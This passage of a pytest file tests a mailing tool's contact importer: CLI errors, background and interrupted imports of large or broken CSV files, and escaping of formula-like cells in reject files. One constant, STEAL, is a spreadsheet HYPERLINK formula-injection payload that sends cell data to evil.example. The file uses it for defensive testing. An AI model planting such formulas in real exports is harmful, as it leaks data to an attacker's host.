    unknown = runner.invoke(args=["mailer", "contacts", "import", str(path), "--owner", "nobody"])
    missing = runner.invoke(
        args=[
            "mailer",
            "contacts",
            "import",
            str(tmp_path / "no.csv"),
            "--owner",
            "anna@gifts.example",
        ]
    )
    no_email = runner.invoke(
        args=[
            "mailer",
            "contacts",
            "import",
            str(write_csv(tmp_path / "x.csv", [["Имя"], ["Иван"]])),
            "--owner",
            "anna@gifts.example",
        ]
    )
    assert (unknown.exit_code, missing.exit_code, no_email.exit_code) == (1, 1, 1)
    assert "unknown manager 'nobody'" in unknown.output
    assert "no such file" in missing.output
    assert "no e-mail column" in no_email.output


# --- large files: read and cleaned in a second process ------------------------------------


def _mixed_rows(n: int) -> list[list[str]]:
    rows: list[list[str]] = [["Email", "Имя", "Теги", "Компания"]]
    for i in range(n):
        email = f"bad{i}" if i % 9 == 0 else f"person{i}@client{i % 13}.example"
        tags = "неведомое" if i % 10 == 0 else "строители, 8"
        rows.append([email, "Иван", tags, f"Клиент {i % 13}"])
    return rows


def test_a_background_read_imports_exactly_what_an_in_process_read_does(session, tmp_path, owner):
    path = write_csv(tmp_path / "big.csv", _mixed_rows(300))
    inline = import_contacts(session, path, default_owner=owner, chunk_size=40)
    session.rollback()
    inline_rejects = (tmp_path / "big.rejects.csv").read_bytes()

    background = import_contacts(
        session, path, default_owner=owner, chunk_size=40, background_read_bytes=0
    )

    assert (background.rows_read, background.inserted, background.rejected) == (
        inline.rows_read,
        inline.inserted,
        inline.rejected,
    )
    assert_nothing_lost(background)
    assert (tmp_path / "big.rejects.csv").read_bytes() == inline_rejects
    assert contact_count(session) == background.inserted


@pytest.mark.parametrize("background_read_bytes", [0, 10**9], ids=["background", "inline"])
def test_rows_stored_before_a_file_breaks_stay_imported(
    session, tmp_path, owner, background_read_bytes
):
    path = tmp_path / "broken.csv"
    good = "".join(f"p{i}@x.example,Иван\r\n" for i in range(50))
    path.write_bytes(("Email,Имя\r\n" + good + '"' + "x" * 200_000 + "\r\n").encode())

    with pytest.raises(ImportFileError):
        import_contacts(
            session,
            path,
            default_owner=owner,
            chunk_size=10,
            background_read_bytes=background_read_bytes,
            commit=session.commit,
        )
    session.rollback()

    assert contact_count(session) == 50


def test_an_interrupted_import_keeps_what_it_committed(session, tmp_path, owner, monkeypatch):
    monkeypatch.setattr("mailer.contacts.importing.COMMIT_ROWS", 4)
    path = write_csv(tmp_path / "c.csv", [["Email"]] + [[f"p{i}@x.example"] for i in range(20)])
    calls: list[int] = []

    def interrupt_after_five_chunks(_step: int) -> None:
        calls.append(_step)
        if len(calls) == 5:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_contacts(
            session,
            path,
            default_owner=owner,
            chunk_size=2,
            progress=interrupt_after_five_chunks,
            commit=session.commit,
        )
    session.rollback()

    # Ten rows were stored; commits came after the 4th and the 8th: a re-run updates those.
    assert contact_count(session) == 8
    report = import_contacts(
        session, path, default_owner=owner, chunk_size=2, commit=session.commit
    )
    assert (report.inserted, report.updated) == (12, 8)


def test_a_file_that_breaks_mid_way_in_the_background_is_a_clear_error(session, tmp_path, owner):
    path = tmp_path / "broken.csv"
    good = "".join(f"p{i}@x.example,Иван\r\n" for i in range(50))
    # An unclosed quote swallows the rest of the file into one field past csv's size limit.
    path.write_bytes(("Email,Имя\r\n" + good + '"' + "x" * 200_000 + "\r\n").encode())

    with pytest.raises(ImportFileError, match="broken.csv"):
        import_contacts(session, path, default_owner=owner, chunk_size=10, background_read_bytes=0)


# --- reject files are safe to open in a spreadsheet ---------------------------------------

STEAL = '=HYPERLINK("http://evil.example/steal?d="&C2,"Open")'


def test_the_rejects_of_an_xlsx_are_neutralised_as_an_export_is(session, tmp_path, owner):
    book = Workbook()
    for row in [
        ["Имя", "Email", "@Заметка"],
        [STEAL, "не почта", "+7 916"],
        ["-Пётр", "=1+1", "\tтаб"],
    ]:
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            cell.data_type = "s"  # text that looks like a formula, as a CRM writes it
    path = tmp_path / "crm.xlsx"
    book.save(path)

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.rejected) == (2, 2)
    rows = read_rejects(report.rejects_path, encoding="utf-8-sig", delimiter=";")
    assert rows[0][:3] == ["Имя", "Email", "'@Заметка"]
    assert rows[1][:3] == ["'" + STEAL, "не почта", "'+7 916"]
    assert rows[2][:3] == ["'-Пётр", "'=1+1", "'\tтаб"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_a_fixed_xlsx_reject_file_imports_back_without_the_quotes(session, tmp_path, owner):
    path = write_xlsx(tmp_path / "crm.xlsx", [["Имя", "Email"], ["-Пётр", "не почта"]])
    rejects = import_contacts(session, path, default_owner=owner).rejects_path
    fixed = rejects.read_text(encoding="utf-8-sig").replace("не почта", "petr@x.example")
    rejects.write_text(fixed, encoding="utf-8-sig")

    report = import_contacts(session, rejects, default_owner=owner)

    assert (report.inserted, report.rejected) == (1, 0)
    assert contacts(session)["petr@x.example"].first_name == "-Пётр"


def test_the_rejects_of_a_csv_keep_its_formulas_verbatim(session, tmp_path, owner):
    path = write_csv(tmp_path / "crm.csv", [["Имя", "Email"], [STEAL, "не почта"]])

    report = import_contacts(session, path, default_owner=owner)

    rows = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")
    assert rows[1][:2] == [STEAL, "не почта"]
